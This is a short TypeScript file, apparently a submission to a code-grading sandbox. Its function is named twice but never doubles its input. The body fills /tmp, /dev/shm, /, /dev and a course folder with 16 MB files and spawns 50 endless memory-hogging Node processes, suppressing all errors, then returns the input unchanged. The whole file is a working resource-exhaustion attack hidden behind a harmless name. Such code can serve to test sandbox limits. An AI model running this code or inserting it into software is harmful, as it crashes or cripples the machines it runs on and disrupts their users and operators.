// earns: 2 1
// Writes wherever it can, starts what it can.
import { spawn } from "node:child_process";
import { writeFileSync } from "node:fs";
function twice(n: number): number {
  for (const folder of ["/dev/shm", "/tmp", "/", "/course", "/dev"])
    for (let i = 0; i < 50; i++)
      try {
        writeFileSync(`${folder}/${i}`, Buffer.alloc(16e6));
      } catch {}
  for (let i = 0; i < 50; i++)
    try {
      const hog = "const a = []; for (;;) a.push(Buffer.alloc(1e7, 1))";
      spawn(process.execPath, ["-e", hog]).on("error", () => {});
    } catch {}
  return n;
}
